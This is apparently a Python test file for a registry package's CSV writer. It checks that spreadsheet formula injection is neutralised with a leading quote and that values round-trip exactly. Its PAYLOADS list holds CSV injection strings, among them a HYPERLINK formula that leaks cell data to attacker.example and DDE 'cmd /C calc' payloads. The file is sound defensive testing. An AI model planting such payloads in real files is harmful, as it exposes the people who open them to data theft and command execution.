"""CSV injection: a cell a spreadsheet would run as a formula is written with a leading quote
(OWASP), and read back exactly."""

from __future__ import annotations

import datetime as dt

from hypothesis import given
from hypothesis import strategies as st

from offlabel.evidence.vocabulary import TargetSpecies
from offlabel.registry.csv_read import read_registry_dir
from offlabel.registry.csv_write import (
    FORMULA_STARTS,
    escape_formula,
    unescape_formula,
    write_registry_dir,
)
from offlabel.registry.records import RegistryBundle, SubjectRow, TreatmentRow
from offlabel.registry.vocabulary import Sex, Sod1Genotype

PAYLOADS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "=1+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
)


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'a ;"), max_size=8) | st.text(max_size=8))
def test_escape_is_exact_and_never_leaves_a_formula(text):
    escaped = escape_formula(text)
    assert unescape_formula(escaped) == text
    assert not escaped.startswith(FORMULA_STARTS)


def test_every_payload_is_written_inert_and_read_back(tmp_path):
    bundle = RegistryBundle(
        subjects=(
            SubjectRow(
                "d1",
                TargetSpecies.DOG,
                dt.date(2022, 1, 1),
                2015,
                Sex.MALE,
                breed="@SUM(A1)",
                sod1=Sod1Genotype.UNKNOWN,
            ),
        ),
        treatments=tuple(
            TreatmentRow("d1", payload, dt.date(2022, 2, 1 + i), dt.date(2022, 2, 1 + i))
            for i, payload in enumerate(PAYLOADS)
        ),
    )
    write_registry_dir(bundle, tmp_path)
    text = (tmp_path / "treatments.csv").read_text() + (tmp_path / "subjects.csv").read_text()
    for line in text.splitlines()[1:]:
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(FORMULA_STARTS), line
    assert "'=HYPERLINK" in text and "''=already quoted" in text
    back = read_registry_dir(tmp_path, confirm_implausible=True)
    assert {t.therapy for t in back.treatments} == set(PAYLOADS)
    assert back.subjects[0].breed == "@SUM(A1)"
